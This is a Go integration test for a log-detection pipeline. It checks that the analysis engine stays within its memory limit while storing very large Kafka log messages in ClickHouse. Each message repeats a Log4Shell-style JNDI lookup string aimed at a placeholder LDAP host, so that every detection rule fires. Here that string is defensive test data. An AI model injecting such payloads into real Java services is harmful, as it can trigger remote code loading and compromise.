//go:build linux

package main

import (
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	kafkago "github.com/segmentio/kafka-go"
	"github.com/segmentio/kafka-go/compress"

	"tidegate/pipeline"
	"tidegate/pipeline/embedded"
	"tidegate/pipeline/embedded/embeddedtest"
	"tidegate/pipeline/kafka"
)

// TestEngineStaysWithinItsMemory: messages of the largest size that hold one log line, which every rule reads, wait on
// eight partitions. An engine with the least engine.memory stores all of them, over either protocol of ClickHouse, and
// its resident memory stays below engine.memory.
func TestEngineStaysWithinItsMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("it starts ClickHouse")
	}
	const (
		partitions, perPartition = 8, 3
		limit                    = 256 << 20
		// A message of some 15.5 MB: one of more than 16 MiB is refused.
		line, repeats = "${jndi:ldap://a.b/${lower:x}} password=abc ", 360_000
	)
	ctx, log := t.Context(), discardLog()
	check := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	check(embeddedtest.Fetch())
	brokerConfig := embedded.DefaultBroker()
	brokerConfig.Dir, brokerConfig.Addr, brokerConfig.Partitions = t.TempDir(), "127.0.0.1:0", partitions
	broker, err := embedded.StartBroker(ctx, brokerConfig, log, nil)
	check(err)
	defer func() { _ = broker.Close() }()
	storeConfig := embedded.DefaultStore()
	storeConfig.Dir, storeConfig.HTTPPort, storeConfig.TCPPort = t.TempDir(), 0, nextFreePort()
	storeConfig.Program = filepath.Join(filepath.Dir(binary(t)), "tidegate-clickhouse")
	store, err := embedded.StartStore(ctx, storeConfig, log, nil)
	check(err)
	defer func() { _ = store.Stop(context.Background()) }()
	clickhouse := store.Config()

	// The messages.
	kafkaConfig := kafka.Default()
	kafkaConfig.Brokers, kafkaConfig.Partitions = []string{broker.Addr()}, partitions
	client, err := kafka.New(kafkaConfig)
	check(err)
	defer client.Close()
	_, err = client.EnsureTopics(ctx)
	check(err)
	producer := &kafkago.Client{Addr: kafkago.TCP(broker.Addr()), Timeout: 30 * time.Second}
	collector := make([]byte, 16)
	_, _ = rand.Read(collector)
	for sequence := range perPartition {
		for partition := range partitions {
			event := &pipeline.Event{
				Id: make([]byte, 16), Timestamp: time.Now().UnixNano(), Dataset: pipeline.Dataset_LOG,
				Log: &pipeline.LogLine{Message: strings.Repeat(line, repeats)},
			}
			_, _ = rand.Read(event.Id)
			value, err := (&pipeline.Batch{
				Schema: 1, Collector: collector, Epoch: 7, Partition: uint32(partition), Sequence: uint64(sequence) + 1,
				Shipped: time.Now().UnixNano(), Host: &pipeline.Host{Name: "host"}, Events: []*pipeline.Event{event},
			}).MarshalVT()
			check(err)
			response, err := producer.Produce(ctx, &kafkago.ProduceRequest{
				Topic: client.Topic(pipeline.TopicEvents), Partition: partition, RequiredAcks: kafkago.RequireAll,
				Compression: compress.Zstd, Records: kafkago.NewRecordReader(kafkago.Record{Value: kafkago.NewBytes(value), Time: time.Now()}),
			})
			check(err)
			check(response.Error)
		}
	}

	for _, protocol := range []string{"native", "http"} {
		t.Run(protocol, func(t *testing.T) {
			metrics := fmt.Sprintf("127.0.0.1:%d", nextFreePort())
			dir := t.TempDir()
			config := filepath.Join(dir, "analyze.yaml")
			check(os.WriteFile(config, fmt.Appendf(nil, `data_dir: %s
metrics: {listen: "%s"}
kafka: {brokers: ["%s"], partitions: %d}
clickhouse: {addr: [%q], http_addr: %q, username: %s, password_file: %s, database: memory_%s, protocol: %s}
engine: {memory: %d, group: %s}
`, dir, metrics, broker.Addr(), partitions, clickhouse.Addr[0], clickhouse.HTTPAddr, clickhouse.Username, clickhouse.PasswordFile,
				protocol, protocol, limit, protocol), 0o600))
			out, err := os.Create(filepath.Join(dir, "log"))
			check(err)
			defer func() { _ = out.Close() }()
			engine := exec.Command(binary(t), "analyze", "--config", config)
			engine.Stdout, engine.Stderr = out, out
			check(engine.Start())
			defer func() {
				_ = engine.Process.Kill()
				_ = engine.Wait()
				if t.Failed() {
					text, _ := os.ReadFile(out.Name())
					t.Logf("%s", tail(text, 4000))
				}
			}()
			for start := time.Now(); engineMetric(metrics, "tidegate_engine_rows_total") < partitions*perPartition; time.Sleep(50 * time.Millisecond) {
				if time.Since(start) > time.Minute {
					t.Fatalf("only %v of %d events are stored", engineMetric(metrics, "tidegate_engine_rows_total"), partitions*perPartition)
				}
			}
			most := mostResident(t, engine.Process.Pid)
			t.Logf("%d MiB were resident", most>>20)
			if most > limit {
				t.Errorf("%d MiB were resident, more than %d", most>>20, limit>>20)
			}
		})
	}
}

// engineMetric returns the sum of the samples of a metric of the process that serves metrics at addr, 0 before it does.
func engineMetric(addr, name string) float64 {
	response, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		return 0
	}
	defer func() { _ = response.Body.Close() }()
	text, _ := io.ReadAll(response.Body)
	return sumSamples(string(text), name)
}
